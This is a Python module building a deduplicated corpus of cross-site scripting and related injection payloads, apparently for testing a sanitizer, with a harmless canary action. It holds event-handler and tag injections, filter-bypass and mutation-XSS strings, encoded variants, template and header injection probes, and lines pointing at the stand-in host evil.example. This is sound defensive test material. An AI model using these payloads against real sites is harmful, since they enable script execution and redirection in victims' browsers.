"""Text that means harm to a browser, short enough for every field; it sets off the trap `__xss` where believed."""

_ACT = "window.__xss=1"
_EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "ontoggle", "onbegin")
_TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe srcdoc=x")
_ENDS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "</option></select>", "]]>", "</template>")
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "\x01javascript:",
    "data:text/html,",
    "vbscript:",
    "//evil.example/",
)

_ALL = (
    *(f"<{tag} {event}={_ACT}>" for tag in _TAGS for event in _EVENTS[:5]),
    *(f"{end}<script>{_ACT}</script>" for end in _ENDS),
    *(f"{end}<img src=x onerror={_ACT}>" for end in _ENDS),
    *(f'<a href="{scheme}{_ACT}" id=evil>Approve</a>' for scheme in _SCHEMES),
    *(f'" {event}={_ACT} x="' for event in _EVENTS),
    *(f"' {event}={_ACT} x='" for event in _EVENTS),
    f'" hx-get="//evil.example/" hx-trigger="load" hx-on::load="{_ACT}',
    f"' hx-vals='js:{{x:{_ACT}}}' hx-trigger='load' hx-post='/queue/next/",
    '" data-key="a" formaction="//evil.example/" form="stalled-help',
    "{{ request.session }}{% debug %}${7*7}#{7*7}",
    f"<svg><animate onbegin={_ACT} attributeName=x dur=1s>",
    f"<svg><script>{_ACT}</script></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_ACT}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={_ACT}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_ACT}>",
    f"<xmp><p title='</xmp><img src=x onerror={_ACT}>'>",
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "<style>@import '//evil.example/x.css';</style>",
    '<div style="background:url(//evil.example/x)">x</div>',
    '<object data="//evil.example/x"></object><embed src="//evil.example/x">',
    f"\u003cimg src=x onerror={_ACT}\u003e",
    f"&lt;img src=x onerror={_ACT}&gt;",
    f"%3Cimg%20src%3Dx%20onerror%3D{_ACT}%3E",
    f"+ADw-script+AD4-{_ACT}+ADw-/script+AD4-",
    f"\ufeff<\u200bscript>{_ACT}</script>",
    f"\uff1cscript\uff1e{_ACT}\uff1c/script\uff1e",
    "\u202e<tpircs>1=ssx__.wodniw</tpircs>\u202c",
    f"x.csv\r\nContent-Type: text/html\r\n\r\n<script>{_ACT}</script>",
)
# Each once.
CORPUS = tuple(dict.fromkeys(_ALL))
